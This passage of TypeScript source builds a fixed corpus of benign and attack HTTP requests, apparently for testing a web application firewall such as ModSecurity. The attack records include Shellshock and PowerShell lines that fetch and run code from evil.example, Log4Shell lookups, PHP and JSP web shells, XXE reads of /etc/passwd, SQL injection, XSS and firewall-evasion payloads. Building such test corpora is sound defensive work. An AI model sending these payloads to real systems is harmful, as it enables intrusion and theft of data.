      case 2: add('rce', 'POST', '/admin/diagnostics', form(p), formEncode([['target', `example.com${s}`], ['count', '3']])); break;
      case 3: add('rce', 'GET', `/cgi-bin/status?cmd=${encodeURIComponent(s.trim())}`, profile(p, kinds[i % 5])); break;
    }
  });
  add('rce', 'GET', '/api/v2/me', { ...profile(p, 'curl'), 'User-Agent': '() { :; }; /bin/bash -c "curl http://evil.example/x | sh"' });
  add('rce', 'GET', '/api/v2/me', { ...profile(p, 'browser'), Cookie: `sid=${p.b64url(32)}; debug=$(cat /etc/passwd)` });
  add('rce', 'GET', `/api/v2/tools/lookup?domain=${encodeURIComponent('example.com\ncat /etc/passwd')}`, profile(p, 'curl'));
  add('rce', 'POST', '/api/v2/tools/exec', json(p, 'sdk'), JSON.stringify({ command: 'powershell.exe -NoProfile -Command "Invoke-WebRequest http://evil.example/p.ps1 | iex"' }));

  PHP.forEach((s, i) => {
    if (i % 2 === 0) add('php', 'POST', '/api/v2/comments', json(p, 'spa'), JSON.stringify({ text: s }));
    else add('php', 'GET', `/index.php?page=${encodeURIComponent(s)}`, profile(p, kinds[i % 5]));
  });
  add('php', 'GET', `/index.php?${encodeURIComponent('_SERVER[DOCUMENT_ROOT]')}=${encodeURIComponent('http://evil.example/shell.txt?')}`, profile(p, 'curl'));
  { const b = `----WebKitFormBoundary${p.b64url(16).replace(/[-_]/g, 'x')}`; add('php', 'POST', '/api/v2/uploads', { ...profile(p, 'browser'), 'Content-Type': `multipart/form-data; boundary=${b}` }, multipart(b, [{ name: 'file', filename: 'avatar.php', type: 'image/png', data: '<?php echo shell_exec($_GET["c"]); ?>' }])); }
  { const b = `----WebKitFormBoundary${p.b64url(16).replace(/[-_]/g, 'x')}`; add('php', 'POST', '/api/v2/uploads', { ...profile(p, 'browser'), 'Content-Type': `multipart/form-data; boundary=${b}` }, multipart(b, [{ name: 'file', filename: 'image.phtml', type: 'image/jpeg', data: 'GIF89a; <?php eval($_POST[1]); ?>' }])); }

  JAVA.forEach((s, i) => {
    switch (i % 4) {
      case 0: add('java', 'GET', '/api/v2/me', { ...profile(p, 'curl'), 'User-Agent': s }); break;
      case 1: add('java', 'GET', '/api/v2/me', { ...profile(p, 'spa'), 'X-Api-Version': s }); break;
      case 2: add('java', 'POST', '/api/v2/search', json(p, 'sdk'), JSON.stringify({ q: s })); break;
      case 3: add('java', 'GET', `/api/v2/search?q=${encodeURIComponent(s)}`, profile(p, 'browser')); break;
    }
  });
  add('java', 'GET', '/api/v2/me', { ...profile(p, 'browser'), Referer: '${jndi:ldap://evil.example/r}' });
  add('java', 'GET', '/api/v2/me', { ...profile(p, 'browser'), Cookie: `sid=${p.b64url(32)}; uid=\${jndi:ldap://evil.example/c}` });
  add('java', 'POST', '/api/v2/import', { ...profile(p, 'sdk'), 'Content-Type': 'application/xml' }, '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>');
  add('java', 'POST', '/api/v2/import', { ...profile(p, 'sdk'), 'Content-Type': 'application/xml' }, '<java><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1"><void index="0"><string>id</string></void></array><void method="start"/></object></java>');

  SSRF.forEach((s, i) => {
    if (i % 2 === 0) add('ssrf', 'GET', `/api/v2/links/preview?url=${encodeURIComponent(s)}`, profile(p, kinds[i % 5]));
    else add('ssrf', 'POST', '/api/v2/webhooks', json(p, 'sdk'), JSON.stringify({ url: s, events: ['order.created'] }));
  });

  for (const ua of ['sqlmap/1.8.6#stable (https://sqlmap.org)', 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)', 'Nikto/2.5.0', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Nuclei - Open-source project (github.com/projectdiscovery/nuclei)', 'gobuster/3.6', 'WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)', 'masscan/1.3 (https://github.com/robertdavidgraham/masscan)', 'Fuzz Faster U Fool v2.1.0-dev', 'feroxbuster/2.10.4']) {
    add('scanner', 'GET', `/api/v2/${p.pick(['users', 'admin', 'login', 'config', 'backup'])}`, { Host: HOST, 'User-Agent': ua, Accept: '*/*' });
  }

  // the same attacks, shaped for a parser that reads them differently than the application does
  add('evasion', 'POST', '/api/v2/search', json(p, 'spa'), '{"q": "<script>alert(document.cookie)</script>", "q": "shoes"}');
  add('evasion', 'POST', '/api/v2/orders/lookup', json(p, 'sdk'), '{"orderId": "1\' UNION SELECT card_number, cvv FROM payments-- -", "orderId": "10482"}');
  add('evasion', 'POST', '/api/v2/orders/lookup', json(p, 'sdk'), '{"orderId": "1\' OR \'1\'=\'1\' -- -", "email": "x@example.com",}');
  add('evasion', 'POST', '/api/v2/comments', json(p, 'spa'), '{"text": "<img src=x onerror=alert(1)>", "score": NaN}');
  add('evasion', 'POST', '/api/v2/comments', json(p, 'spa'), "{'text': '<svg onload=alert(1)>'}");
  add('evasion', 'POST', '/api/v2/comments', json(p, 'spa'), '{"text": "<script>alert(1)</script>" /* note */}');
  add('evasion', 'GET', '/api/v2/products?id=1%20uni%C3on%20sel%C3ect%20password,2%20from%20users--', profile(p, 'curl'));
  add('evasion', 'POST', '/login', form(p), 'username=admin%C2%27%C3%20or%C3%201%3D1--%20-&password=x');
  { const b = `----WebKitFormBoundary${p.b64url(16).replace(/[-_]/g, 'x')}`; add('evasion', 'POST', '/api/v2/uploads', { ...profile(p, 'browser'), 'Content-Type': `multipart/form-data; boundary=${b}` }, `--${b}\r\nContent-Disposition: form-data; name="caption"\r\n\r\nhello\r\n--${b}\r\nContent-Disposition: form-data\r\n\r\n<script>alert(document.cookie)</script>\r\n--${b}--\r\n`); }
  { const b = `------------------------${p.hex(16)}`; add('evasion', 'POST', '/api/v2/uploads', { ...profile(p, 'curl'), 'Content-Type': `multipart/form-data; boundary=${b}` }, `--${b}\r\nContent-Disposition: form-data; name="note"\r\n\r\n1' UNION SELECT password FROM users-- -\r\n`); }
  add('evasion', 'GET', '/api/v2/files/%3F%3Cscript%3Ealert(1)%3C%2Fscript%3E', profile(p, 'curl'));
  add('evasion', 'GET', '/api/v2/me', { ...profile(p, 'browser'), Cookie: `sid=${p.b64url(32)}; profile=${Buffer.from('{"rce":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'id\')}()"}').toString('base64')}` });
  add('evasion', 'GET', '/api/v2/me', { ...profile(p, 'curl'), X_Forwarded_Host: '../../../../etc/passwd' });
  // past the engine's argument limit (1000): a WAF that stops reading arguments there never sees it
  add('evasion', 'GET', `/api/v2/products?${Array.from({ length: 1000 }, (_, k) => `f${k}=1`).join('&')}&q=${encodeURIComponent('<svg onload=alert(document.domain)>')}`, profile(p, 'curl'));

  // protocol anomalies that are still valid HTTP/1.1
  add('protocol', 'GET', '/api/v2/me', { Host: '203.0.113.10', 'User-Agent': UA.curl, Accept: '*/*', 'Content-Type': 'application/x-www-form-urlencoded', 'X-Original-URL': '/admin' }, '');
  add('protocol', 'POST', '/api/v2/orders', { ...profile(p, 'sdk'), 'Content-Type': 'application/x-php' }, '<?php echo 1; ?>');
  add('protocol', 'POST', '/api/v2/orders', { ...profile(p, 'sdk'), 'Content-Type': 'application/json; charset=utf-7' }, '{"a":"+ADw-script+AD4-"}');
  add('protocol', 'GET', '/api/v2/orders?a=1&a=2&a=3', { ...profile(p, 'curl'), Range: 'bytes=0-1,2-3,4-5,6-7,8-9,10-11,12-13,14-15,16-17,18-19,20-21,22-23,24-25,26-27,28-29,30-31,32-33,34-35,36-37,38-39,40-41,42-43,44-45,46-47,48-49,50-51,52-53,54-55,56-57,58-59,60-61,62-63,64-65' });
  add('protocol', 'GET', '/api/v2/invoice.php.bak', profile(p, 'curl'));
  add('protocol', 'GET', '/api/v2/me?x=%uff1cscript%uff1e', profile(p, 'curl'));
  add('protocol', 'GET', '/api/v2/me?x=%00', profile(p, 'curl'));
  add('protocol', 'GET', '/api/v2/web.config', profile(p, 'curl'));
  add('protocol', 'TRACE', '/api/v2/me', profile(p, 'curl'));
  add('protocol', 'GET', '/api/v2/me', { ...profile(p, 'curl'), 'Content-Length': '0', 'Transfer-Encoding': 'chunked' }, '0\r\n\r\n');
  out[out.length - 1].autocomplete = false;
  add('protocol', 'POST', '/api/v2/orders?id=1%0d%0aSet-Cookie:%20admin=1', profile(p, 'curl'));
  add('protocol', 'GET', '/api/v2/lang?l=en%0d%0aLocation:%20https://evil.example/', profile(p, 'curl'));
  add('protocol', 'GET', '/api/v2/me', { ...profile(p, 'spa'), 'Accept': 'application/json', 'X-Forwarded-Host': 'evil.example', Cookie: '__proto__[admin]=1' });
  add('protocol', 'POST', '/api/v2/users', json(p, 'sdk'), '{"name":"x","__proto__":{"isAdmin":true},"constructor":{"prototype":{"isAdmin":true}}}');

  // in an uploaded file's contents: ModSecurity 3.0.9 has the raw multipart body in REQUEST_BODY,
  // which the CRS's Java (944) and smuggling (921110) rules read; last, so the records above keep
  // their random draws. Two ordinary uploads of the same shape go with them (benign).
  const upload = (expect: 'attack' | 'benign', category: string, filename: string, type: string, data: string) => {
    const b = `----WebKitFormBoundary${p.b64url(16).replace(/[-_]/g, 'x')}`;
    const body = multipart(b, [{ name: 'title', data: 'report' }, { name: 'file', filename, type, data }]);
    out.push({ id: '', category, expect, method: 'POST', uri: '/api/v2/uploads', headers: { ...profile(p, 'browser'), 'Content-Type': `multipart/form-data; boundary=${b}` }, body });
  };
  upload('attack', 'java', 'notes.txt', 'text/plain', 'x = java.lang.Runtime.getRuntime().exec("id");');
  upload('attack', 'java', 'index.jsp', 'application/octet-stream', '<%@ page import="java.io.*" %><% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); %>');
  upload('attack', 'protocol', 'a.txt', 'text/plain', 'aaa\r\nGET /admin HTTP/1.1\r\nHost: internal\r\n');
  upload('benign', 'benign-multipart', 'Main.java', 'text/x-java', 'public class Main { public static void main(String[] args) { System.out.println("hi"); } }');
  upload('benign', 'benign-multipart', 'notes.txt', 'text/plain', 'Meeting notes: revenue up 5%, costs down 3%. Next: hire two engineers.');
  return out;
}

/** The whole corpus, numbered per category (b-... benign, a-... attack), always the same. */
export function differentialCorpus(): DiffRecord[] {
  const p = new Picker(20241123);
  const all = [...benignGets(p), ...benignJson(p), ...benignForms(p), ...benignMultipart(p), ...benignOther(p), ...benignEdges(p), ...attacks(p)];
  const n = new Map<string, number>();
  for (const r of all) {
    const k = r.category;
    n.set(k, (n.get(k) ?? 0) + 1);
    r.id = `${r.expect === 'benign' ? 'b' : 'a'}-${k.replace(/^benign-/, '')}-${String(n.get(k)).padStart(3, '0')}`;
  }
  return all;
}
